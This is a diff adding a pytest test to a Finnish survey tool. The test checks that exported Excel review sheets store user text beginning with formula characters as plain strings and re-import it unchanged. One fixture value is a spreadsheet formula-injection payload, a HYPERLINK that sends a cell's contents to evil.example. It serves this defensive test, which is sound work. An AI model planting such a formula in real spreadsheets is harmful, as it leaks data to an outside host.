@@ -156,3 +156,41 @@ def test_ingest_of_an_xxe_workbook_says_one_line_and_stores_no_practice(cli, tmp
     assert SECRET not in result.output
     listed = cli("practices", "list", "--format", "json")
     assert SECRET not in listed.output
+
+
+# --- 2. Formulas in what we write for people to open in Excel ---------------------------
+
+QUOTED = ["'=1+1 on kaava", "'-merkki alussa", '=HYPERLINK("http://evil.example/?"&A1,"klikkaa")']
+
+
+@pytest.mark.parametrize("resaved", [False, True], ids=["openpyxl", "libreoffice"])
+def test_text_that_starts_with_a_quote_and_a_formula_character_round_trips_exactly(
+        session, tmp_path, resaved):
+    from factories import make_practice
+    from test_review import SHEET, export_one, fill, headers, row_of
+
+    from yhteistuumin_survey.db.models import Practice
+    from yhteistuumin_survey.review import import_review
+
+    practices = [make_practice(session, title=typed, summary=typed, corrected_title=typed)
+                 for typed in QUOTED]
+    path = export_one(session, tmp_path)
+    fill(path, {p.id: {"Päätös": "hyväksytty"} for p in practices})
+    if resaved:
+        from test_review_libreoffice import resave
+
+        path = resave(path, tmp_path)
+    with zipfile.ZipFile(path) as archive:
+        sheets = [name for name in archive.namelist() if name.startswith("xl/worksheets/")]
+        assert not any(b"<f>" in archive.read(name) or b"<f " in archive.read(name)
+                       for name in sheets)
+    sheet = openpyxl.load_workbook(path)[SHEET]
+    cols = headers(sheet)
+    for practice in practices:
+        cell = sheet.cell(row=row_of(sheet, practice.id), column=cols["Korjattu nimi"])
+        assert cell.data_type == "s"
+    report = import_review([path], session=session)
+    assert report.counts["applied"] == len(QUOTED) and not report.failed, report.to_dict()
+    session.expire_all()
+    for practice, typed in zip(practices, QUOTED, strict=True):
+        assert session.get(Practice, practice.id).corrected_title == typed
